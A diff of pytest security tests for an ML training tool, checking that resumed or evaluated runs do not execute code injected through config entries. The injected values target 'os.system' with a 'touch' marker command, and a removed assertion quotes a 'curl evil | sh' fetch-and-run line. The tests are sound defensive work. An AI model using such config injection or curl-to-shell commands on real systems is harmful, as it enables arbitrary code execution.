@@ -11,37 +11,20 @@ from typing import Any
 import pytest
 import yaml
 
-from conftest import DEVICE, Answer
+from conftest import SMALL, Answer
 from frostline.errors import RunError
 from frostline.opening import foreign, read_settings
 from frostline.paths import conf_dir
 from frostline.signatures import origin_of
 
-QUICK = ["data.train_limit=40", "data.image_size=8", "schedule=head_only", "trainer.precision=32-true", *DEVICE]
-DONE = Path("/tmp/frostline-test-of-a-strangers-run")  # what code that must not run would write
-
-
-@pytest.fixture(scope="module")
-def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    import sys
-
-    from hydra.core.global_hydra import GlobalHydra
-
-    from frostline.cli import main
-
-    folder = tmp_path_factory.mktemp("trained") / "run"
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(sys, "argv", ["frostline", "train", *QUICK, f"run_dir={folder}"])
-        main()
-    GlobalHydra.instance().clear()
-    return folder
+QUICK = [*SMALL, "schedule=head_only"]
 
 
 @pytest.fixture
-def run(trained: Path, tmp_path: Path) -> Path:
+def run(small_run: Path, tmp_path: Path) -> Path:
     """A copy, unfinished by its record, so that it can be resumed."""
     folder = tmp_path / "run"
-    shutil.copytree(trained, folder)
+    shutil.copytree(small_run, folder)
     record = json.loads((folder / "run.json").read_text())
     (folder / "run.json").write_text(json.dumps(record | {"status": "interrupted"}))
     return folder
@@ -138,11 +121,12 @@ class Mine(__import__("lightning").Callback):  # type: ignore[misc]
 
 
 def test_callbacks_and_logger_are_not_made_to_score_a_run(run: Path, program: Callable[..., Answer]) -> None:
-    amend(run, "callbacks.mine", {"_target_": "os.system", "command": f"touch {DONE}"})
-    amend(run, "logger", {"_target_": "os.system", "command": f"touch {DONE}"})
+    ran = run.parent / "ran"
+    amend(run, "callbacks.mine", {"_target_": "os.system", "command": f"touch {ran}"})
+    amend(run, "logger", {"_target_": "os.system", "command": f"touch {ran}"})
     answer = program("evaluate", f"run={run}")
     assert answer.code == 0, answer.err
-    assert not DONE.exists()
+    assert not ran.exists()
 
 
 PLACES = {
@@ -347,8 +331,8 @@ def test_the_command_of_a_record_is_no_text_to_paste(run: Path, program: Callabl
     (run / "checkpoints" / "last.ckpt").unlink()
     answer = program("train", f"resume={run}")
     assert answer.code == 1
-    assert "next:  frostline train ... init_from=" in answer.err or "'train;'" in answer.err
-    assert "curl evil | sh" not in answer.err
+    assert f"next:  a new run with init_from={run / 'checkpoints' / 'best.ckpt'}" in answer.err
+    assert "curl" not in answer.err
 
 
 # --- what an attack found ---
